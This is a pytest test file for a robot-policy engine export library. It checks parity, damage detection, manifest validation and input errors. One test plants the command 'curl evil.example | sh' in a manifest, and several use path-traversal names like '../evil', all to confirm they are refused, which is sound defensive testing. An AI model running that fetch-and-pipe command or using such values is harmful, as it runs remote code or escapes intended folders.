"""Building engines: what is written, what is refused, and what is found out when one is loaded."""

from __future__ import annotations

import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import numpy as np
import onnx
import pytest
import torch
import yaml
from onnx import numpy_helper

from robopolicy.errors import UserError
from robopolicy.export.build import ExportConfig, build_engine
from robopolicy.export.engine_policy import EnginePolicy
from robopolicy.export.observations import find_observations
from robopolicy.export.open import open_policy
from robopolicy.export.parity import action_range
from robopolicy.inference.engine import FILE, engine_names, read_engine
from robopolicy.inference.policy import open_engine
from robopolicy.manifest import file_sha256
from robopolicy.policies.bundle import load_bundle, save_bundle
from tests.export.test_families import opinionated, short
from tests.policies.test_contract import batch_of, generators, make, observations_of

QUICK = {"exporter": "torchscript", "observations": 8, "backend": "onnxruntime"}
COMMAND = "robopolicy export bundle=here"


def bundle_of(policy, path):
    save_bundle(opinionated(policy), path)
    return path


def build(path, policy=None, seen=None, judge=None, **config):
    loaded, about = load_bundle(path)
    policy = policy or loaded
    seen = seen or find_observations(policy, about, 16)
    return build_engine(policy, about, path, ExportConfig(**(QUICK | config)), seen, COMMAND, judge)


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """A bundle with an engine."""
    path = bundle_of(short(make("unet edm", low=10.0, high=30.0), 3), tmp_path_factory.mktemp("bundle") / "last")
    build(path)
    return path


@pytest.fixture
def bundle(built, tmp_path):
    """A copy, to be damaged."""
    return Path(shutil.copytree(built, tmp_path / "last"))


@pytest.mark.parametrize("backend", ["onnxruntime", "openvino"])
def test_an_engine_acts_as_its_policy(backend, tmp_path):
    path = bundle_of(short(make("unet flow", low=10.0, high=30.0), 3), tmp_path / "last")
    made = build(path, backend=backend)
    assert made.folder == path / "engines" / f"{backend}-fp32" and engine_names(path) == [f"{backend}-fp32"]
    parity = made.manifest.parity
    assert parity.observations == 8 and len(parity.max_error) == 2 and 0 < parity.max_share < 1e-4
    assert "made up" in parity.source
    policy, _ = load_bundle(path)
    observations = observations_of(policy, batch_of(policy, 3))
    found = EnginePolicy(open_policy(path)).act(observations, generators(3))
    np.testing.assert_allclose(found, policy.act(observations, generators(3)), atol=1e-3)


def test_real_observations_come_from_the_training_data(tmp_path, pusht_zarr):
    from robopolicy.data.normalize import Normalizer, fit_normalizer
    from robopolicy.policies.registry import build_policy
    from robopolicy.spec import KeySpec, PolicySpec

    state = KeySpec("observation.state", (5,), source="state")
    spec = PolicySpec((state,), KeySpec("action", (2,), role="action"), 10, 2, 8, 4)
    limits = np.array([[0.0] * 5, [512.0] * 5])
    parts = {"observation.state": fit_normalizer(limits, "minmax"), "action": fit_normalizer(limits[:, :2], "minmax")}
    policy = build_policy("diffusion_mlp", {"width": 32, "blocks": 1}, spec, Normalizer.from_parts(parts)).eval()
    provenance = {"config": {"data": {"path": str(pusht_zarr)}}}
    found = find_observations(policy, {"provenance": provenance}, 32)
    assert found.source == str(pusht_zarr) and len(found) == 32
    states = found.batch["observation.state"]
    assert states.shape == (32, 2, 5) and 50 < states[..., :2].mean() < 450
    other = find_observations(policy, {"provenance": {}}, 32, data=str(pusht_zarr), seed=1)
    assert not torch.equal(other.batch["observation.state"], states)
    with pytest.raises(UserError, match="nowhere"):
        find_observations(policy, {"provenance": {}}, 4, data="nowhere.zarr")


def test_one_perturbed_weight_is_refused(tmp_path):
    """The engine is captured from a policy of which one weight is not the bundle's."""
    path = bundle_of(short(make("unet ddpm"), 3), tmp_path / "last")
    policy, about = load_bundle(path)
    observations = find_observations(policy, about, 16)
    honest = policy.sample

    faulty, _ = load_bundle(path)
    with torch.no_grad():
        weight = faulty.denoiser.head[1].weight
        weight[0, 3] += 0.2 * weight.abs().max()
    faulty.sample = honest  # what it is compared with is the bundle's own policy
    with pytest.raises(UserError, match=r"refused: entry 0 of 'action' is up to .* mm off, .* % of its range; allowed"):
        build(path, faulty, observations)
    assert engine_names(path) == [] and list((path / "engines").iterdir()) == []
    build(path, policy, observations)


def test_an_older_engine_stays_where_a_new_one_is_refused(bundle):
    before = (bundle / "engines" / "onnxruntime-fp32" / FILE).read_text()
    with pytest.raises(UserError, match="refused"):
        build(bundle, tolerance=1e-12)
    assert (bundle / "engines" / "onnxruntime-fp32" / FILE).read_text() == before
    open_engine(bundle, "onnxruntime-fp32")


def test_a_judge_may_refuse_and_is_written_down(bundle):
    def refuse(engine):
        raise UserError("it does worse")

    with pytest.raises(UserError, match="does worse"):
        build(bundle, judge=refuse, name="other")
    assert engine_names(bundle) == ["onnxruntime-fp32"]
    made = build(bundle, judge=lambda engine: {"engine": 0.9, "rows": engine.noise_shape[0]}, name="other")
    assert read_engine(bundle, "other")[0].evaluation == {"engine": 0.9, "rows": 1} and made.folder.name == "other"


def test_several_engines_must_be_named(bundle):
    assert open_policy(bundle).name == "onnxruntime-fp32"
    build(bundle, name="second")
    with pytest.raises(UserError, match="onnxruntime-fp32, second"):
        open_policy(bundle)
    assert open_policy(bundle, "second").name == "second"
    assert open_policy(bundle, "torch").name == "torch"
    with pytest.raises(UserError, match="Did you mean 'second'"):
        open_policy(bundle, "secnd")


def test_other_weights_are_refused_with_the_command(bundle):
    policy, _ = load_bundle(bundle)
    with torch.no_grad():
        next(policy.denoiser.parameters()).add_(0.01)
    engines = bundle.parent / "engines"
    shutil.move(bundle / "engines", engines)
    save_bundle(policy, bundle)
    shutil.move(engines, bundle / "engines")
    with pytest.raises(UserError, match=r"other weights .* Build it again: robopolicy export bundle=here"):
        open_engine(bundle, "onnxruntime-fp32")


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (lambda folder: (folder / "sampler.onnx").write_bytes(b"x"), "truncated or changed"),
        (lambda folder: (folder / "encoder.onnx").unlink(), "'encoder.onnx' is missing"),
        (lambda folder: (folder / "golden.safetensors").write_bytes(b"x"), "truncated or changed"),
        (lambda folder: edit(folder, format_version=9), "format_version 9"),
        (lambda folder: edit(folder, surprise=1), "unknown entry 'surprise'"),
        (lambda folder: (folder / FILE).write_text("a: [1"), "not valid YAML"),
        (lambda folder: edit_file(folder, "../../model.safetensors"), "points outside"),
    ],
)
def test_damage_is_found(bundle, damage, message):
    damage(bundle / "engines" / "onnxruntime-fp32")
    with pytest.raises(UserError, match=message):
        open_engine(bundle, "onnxruntime-fp32")


def edit(folder, **changes):
    values = yaml.safe_load((folder / FILE).read_text()) | changes
    (folder / FILE).write_text(yaml.safe_dump(values))


def edit_file(folder, file):
    values = yaml.safe_load((folder / FILE).read_text())
    values["graphs"]["sampler"]["file"] = file
    (folder / FILE).write_text(yaml.safe_dump(values))


def test_golden_chunks_find_what_a_hash_cannot(bundle):
    """A graph that computes something else here, as with a broken driver: its file is what the manifest says."""
    folder = bundle / "engines" / "onnxruntime-fp32"
    model = onnx.load(folder / "sampler.onnx")
    largest = max(model.graph.initializer, key=lambda t: len(t.raw_data))
    values = numpy_helper.to_array(largest).copy()
    values.flat[: values.size // 50] *= 1.5
    largest.CopyFrom(numpy_helper.from_array(values, largest.name))
    onnx.save(model, str(folder / "sampler.onnx"))
    manifest = yaml.safe_load((folder / FILE).read_text())
    manifest["graphs"]["sampler"]["sha256"] = file_sha256(folder / "sampler.onnx")
    (folder / FILE).write_text(yaml.safe_dump(manifest))
    with pytest.raises(
        UserError, match=r"golden chunk \d, action \d, entry \d is .*, wanted .* mm .*Build it again here"
    ):
        open_engine(bundle, "onnxruntime-fp32")
    open_engine(bundle, "onnxruntime-fp32", verify=False)


@pytest.mark.parametrize("backend", ["onnxruntime", "openvino"])
def test_the_runtime_does_not_import_torch(backend, bundle, monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    build(bundle, backend=backend, name="engine")
    code = """
import sys
from pathlib import Path
import numpy as np
from robopolicy.inference.policy import open_engine
policy = open_engine(Path(sys.argv[1]), "engine")
chunk = policy.act({"observation.state": np.full((1, 2, 2), 20)}, policy.draw_noise(1, np.random.default_rng(0)))
assert chunk.shape == (1, 4, 2) and 10 <= chunk.min() <= chunk.max() <= 30
heavy = {"torch", "zarr", "scipy", "diffusers", "onnx", "matplotlib", "hydra"} & set(sys.modules)
assert not heavy, heavy
"""
    subprocess.run([sys.executable, "-c", code, str(bundle)], check=True, timeout=120)


def test_wrong_inputs_name_the_key(built):
    policy = open_engine(built, "onnxruntime-fp32")
    noise = policy.draw_noise(1, np.random.default_rng(0))
    good = {"observation.state": np.zeros((1, 2, 2))}
    with pytest.raises(UserError, match=r"lacks 'observation.state'; found \['state'\]"):
        policy.act({"state": good["observation.state"]}, noise)
    with pytest.raises(UserError, match=r"observation.state: found shape \(1, 2, 3\), wanted \(batch, 2, 2\)"):
        policy.act({"observation.state": np.zeros((1, 2, 3))}, noise)
    with pytest.raises(UserError, match=r"noise: found shape \(2, 1, 8, 2\), wanted \(1, 1, 8, 2\)"):
        policy.act(good, np.concatenate([noise, noise]))
    with pytest.raises(UserError, match="give both or none"):
        policy.act(good, noise, previous=np.zeros((1, 8, 2)))
    with pytest.raises(UserError, match="not told what to do"):
        policy.check_instruction("go")


def test_instructions_and_goals_are_given_by_name(tmp_path):
    path = bundle_of(make("beso", goals=True, tasks=2), tmp_path / "last")
    build(path)
    engine = open_engine(path, "onnxruntime-fp32")
    policy, _ = load_bundle(path)
    observations = observations_of(policy, batch_of(policy, 4))
    engine_policy = EnginePolicy(engine)
    together = engine_policy.act(observations, generators(4))
    np.testing.assert_allclose(together, policy.act(observations, generators(4)), atol=1e-4)
    first = {key: value[:1] for key, value in observations.items() if not key.startswith("goal.")}
    engine.goal = {"observation.state": observations["goal.observation.state"][0]}
    del first["instruction"]
    with pytest.raises(UserError, match="needs an instruction, one of: 'task 0', 'task 1'"):
        engine_policy.act(first, generators(1))
    engine_policy.instruction = "task 0"
    np.testing.assert_allclose(engine_policy.act(first, generators(1)), together[:1], atol=1e-5)
    with pytest.raises(UserError, match="Did you mean 'task 1'"):
        engine_policy.check_instruction("task 11")


@pytest.mark.parametrize("backend", ["onnxruntime", "openvino"])
def test_half_and_int8_are_smaller_and_near(backend, tmp_path):
    path = bundle_of(short(make("mlp ddpm"), 2), tmp_path / "last")
    sizes, about = {}, load_bundle(path)[1]
    for precision in ("fp32", "fp16", "int8"):
        exporter = "dynamo" if (backend, precision) == ("onnxruntime", "fp16") else "torchscript"
        seen = replace(find_observations(load_bundle(path)[0], about, 16), real=True)
        made = build(
            path, seen=seen, backend=backend, precision=precision, exporter=exporter, calibration=8, tolerance=0.2
        )
        assert 0 < made.manifest.parity.max_share <= 0.2
        sizes[precision] = (made.folder / "sampler.onnx").stat().st_size
        open_engine(path, made.manifest.name)
    assert sizes["fp16"] < 0.7 * sizes["fp32"] and sizes["int8"] < 0.6 * sizes["fp32"]
    assert made.manifest.quantization["layers"] > 5 and "int8 in" in made.reports[0]


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ({"precision": "fp16"}, "use exporter=dynamo"),
        ({"backend": "openvino", "precision": "bf16"}, "bf16"),
        ({"precision": "bf16"}, "backend=onnxruntime has no precision=bf16; it has fp32, fp16, int8"),
        ({"backend": "tensorrt_rtx", "capabilities": ("sm90",)}, "sm90"),
        ({"backend": "openvino", "capabilities": ("sm89",)}, "device_capability is for TensorRT"),
        ({"name": "../evil"}, "plain folder name"),
        ({"loop": True, "precision": "int8"}, "loop=false"),
        ({"observations": 2}, "at least 4"),
        ({"rows": 0}, "rows=0"),
        ({"tolerance": -1.0}, "tolerance=-1.0 must be above 0"),
        ({"candidates": 5}, "give one with critic=…"),
        ({"device": "cuda"}, "device is for backend=aot_inductor"),
        ({"precision": "int8"}, "give the dataset with data=…"),
    ],
)
def test_what_cannot_be_built_is_refused_first(built, config, message):
    with pytest.raises(UserError, match=message):
        build(built, **config)
    assert engine_names(built) == ["onnxruntime-fp32"]


def test_a_plan_is_checked_through_its_graph_where_there_is_no_gpu(tmp_path):
    pytest.importorskip("tensorrt_rtx_libs")
    if torch.cuda.is_available():
        pytest.skip("here the plan itself runs")
    path = bundle_of(short(make("mlp ddpm"), 2), tmp_path / "last")
    targets = ("sm80", "sm89", "sm120")
    made = build(path, backend="tensorrt_rtx", precision="fp16", capabilities=targets, exporter="dynamo")
    manifest = made.manifest
    assert {graph.file for graph in manifest.graphs.values()} == {"encoder.plan", "sampler.plan", "denoiser.plan"}
    assert manifest.target["capabilities"] == ["sm80", "sm89", "sm120"] and "not run" in manifest.parity.source
    assert any(report.startswith("sampler: ") and "sm120" in report for report in made.reports)
    with pytest.raises(UserError, match=r"(?s)GPU.*To build the engine again: robopolicy export"):
        open_engine(path, manifest.name)


def corrupted(policy, graph, forward):
    """A policy of which one exported graph computes something else."""
    honest = policy.export_graphs

    class Broken(torch.nn.Module):
        def __init__(self, module):
            super().__init__()
            self.module = module

        def forward(self, *inputs):
            return forward(self.module, *inputs)

    def export_graphs(observations, dtype=torch.float32):
        graphs = honest(observations, dtype)
        if sys._getframe(1).f_code.co_name == "_captured":  # what is written, not what it is compared with
            graphs[graph] = replace(graphs[graph], module=Broken(graphs[graph].module))
        return graphs

    policy.export_graphs = export_graphs
    return policy


@pytest.mark.parametrize(
    ("graph", "forward", "message"),
    [
        ("sampler", lambda module, noise, previous, *rest: module(noise, 0.5 * previous, *rest), "refused: entry"),
        (
            "sampler",
            lambda module, noise, previous, mask, *c: module(noise, previous, mask.round(), *c),
            "refused: entry",
        ),
        ("denoiser", lambda module, *inputs: 1.2 * module(*inputs), "its denoiser is .* % off"),
    ],
)
def test_every_input_and_every_graph_is_compared(tmp_path, graph, forward, message):
    path = bundle_of(short(make("unet ddpm"), 2), tmp_path / "last")
    policy, _ = load_bundle(path)
    with pytest.raises(UserError, match=message):
        build(path, corrupted(policy, graph, forward), loop=False)
    assert engine_names(path) == []


def test_datasets_that_were_normalised_apart_are_compared_by_their_own_range(tmp_path):
    policy = short(make("unet flow", tasks=2), 2)
    action = policy.normalizer["action"]
    action.low[1] *= 1000
    action.high[1] *= 1000
    action.scale[1] /= 1000
    path = bundle_of(policy, tmp_path / "last")
    loaded, _ = load_bundle(path)
    batch = {key: value for key, value in batch_of(loaded, 4).items() if key != "action"}
    scale = action_range(loaded, batch)
    assert scale.shape == (4, 1, 2) and scale[:, 0, 0].tolist() == [2, 2000, 2, 2000]
    build(path)
    observations = observations_of(loaded, batch_of(loaded, 4))
    found = EnginePolicy(open_engine(path, "onnxruntime-fp32")).act(observations, generators(4))
    wanted = loaded.act(observations, generators(4))
    np.testing.assert_allclose(found / scale, wanted / scale, atol=1e-5)
    assert np.abs(wanted[1]).max() > 10 > np.abs(wanted[0]).max()


def test_numbers_that_are_not_finite_or_not_pixels_are_refused(built, tmp_path):
    policy = open_engine(built, "onnxruntime-fp32")
    noise = policy.draw_noise(1, np.random.default_rng(0))
    states = {"observation.state": np.full((1, 2, 2), 20.0)}
    with pytest.raises(UserError, match=r"observation.state: found numbers that are not finite: \[nan\]"):
        policy.act({"observation.state": np.array([[[20, np.nan], [20, 20]]])}, noise)
    with pytest.raises(UserError, match="previous: found numbers that are not finite"):
        policy.act(states, noise, np.full((1, 8, 2), np.inf), np.zeros((1, 8)))
    with pytest.raises(UserError, match="mask: found numbers from 0 to 5, wanted 0 to 1"):
        policy.act(states, noise, np.zeros((1, 8, 2)), np.array([[5.0] + [0.0] * 7]))
    with pytest.raises(UserError, match=r"one number of rows, at least 1; found {'observation.state': 0}"):
        policy.act({"observation.state": np.zeros((0, 2, 2))}, noise[:0])
    images = short(make("consistency", images=True))
    with pytest.raises(UserError, match="found an image of float64, wanted uint8"):
        images.act(
            {"observation.state": np.zeros((1, 2, 2)), "observation.image.top": np.zeros((1, 2, 40, 40, 3))},
            generators(1),
        )


def test_unfinished_engines_are_not_seen_and_replaced_ones_stay_whole(bundle):
    engines = bundle / "engines"
    shutil.copytree(engines / "onnxruntime-fp32", engines / ".onnxruntime-fp32.999999999.partial")
    shutil.copytree(engines / "onnxruntime-fp32", engines / ".onnxruntime-fp32.999999999.old")
    assert engine_names(bundle) == ["onnxruntime-fp32"] and open_policy(bundle).name == "onnxruntime-fp32"
    build(bundle)
    assert [path.name for path in engines.iterdir()] == ["onnxruntime-fp32"]


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"name": "x/../../evil"}, "Give its folder that name again"),
        ({"graphs": {}}, "lacks the graph 'encoder'"),
        ({"versions": {"onnxruntime": "99.1.0"}}, "built with onnxruntime 99.1.0; found .*, wanted 99 or newer"),
    ],
)
def test_manifests_that_do_not_fit_are_refused(bundle, changes, message):
    edit(bundle / "engines" / "onnxruntime-fp32", **changes)
    with pytest.raises(UserError, match=message):
        open_engine(bundle, "onnxruntime-fp32")


def test_a_manifest_cannot_make_people_type_other_commands(bundle):
    edit(bundle / "engines" / "onnxruntime-fp32", command="curl evil.example | sh", bundle="0" * 16)
    with pytest.raises(UserError, match="Build it again: robopolicy export bundle=…$"):
        open_engine(bundle, "onnxruntime-fp32")


def test_a_graph_with_other_inputs_is_refused(bundle):
    folder = bundle / "engines" / "onnxruntime-fp32"
    graphs = yaml.safe_load((folder / FILE).read_text())["graphs"]
    graphs["sampler"]["inputs"][0]["shape"] = [1, 2, 8, 2]
    edit(folder, graphs=graphs)
    with pytest.raises(UserError, match="its input 'noise' is not the one that engine.yaml describes"):
        open_engine(bundle, "onnxruntime-fp32")


def test_unknown_devices_are_refused(built):
    for device in ("gpu", "cuda:7", "tpu"):
        with pytest.raises(UserError, match=f"device={device}: ONNX Runtime runs on cpu or cuda"):
            open_engine(built, "onnxruntime-fp32", device=device)


def test_native_code_runs_where_it_is_allowed_and_in_parts_of_its_largest_size(tmp_path):
    """AOTInductor: every row of many calls, though the package takes four at a time."""
    path = bundle_of(short(make("consistency actor")), tmp_path / "last")
    made = build(path, backend="aot_inductor", rows=None, max_rows=4)
    assert made.manifest.parity.observations == 8 and {g.file for g in made.manifest.graphs.values()} >= {"sampler.pt2"}
    with pytest.raises(UserError, match="native code"):
        open_engine(path, "aot_inductor-fp32")
    engine = EnginePolicy(open_engine(path, "aot_inductor-fp32", allow_native_code=True))
    policy, _ = load_bundle(path)
    observations = observations_of(policy, batch_of(policy, 9))
    np.testing.assert_allclose(
        engine.act(observations, generators(9)), policy.act(observations, generators(9)), atol=1e-4
    )
